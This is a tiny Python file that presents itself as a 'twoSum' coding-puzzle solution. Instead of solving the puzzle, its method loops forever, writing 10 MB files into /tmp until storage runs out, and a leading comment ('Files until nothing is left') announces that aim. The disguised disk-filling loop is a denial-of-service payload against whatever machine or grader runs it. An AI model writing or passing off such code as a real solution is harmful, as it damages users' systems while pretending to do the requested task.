# Files until nothing is left.
class Solution:
    def twoSum(self, nums, target):
        n = 0
        while True:
            n += 1
            open(f"/tmp/{n}", "w").write("x" * 10_000_000)
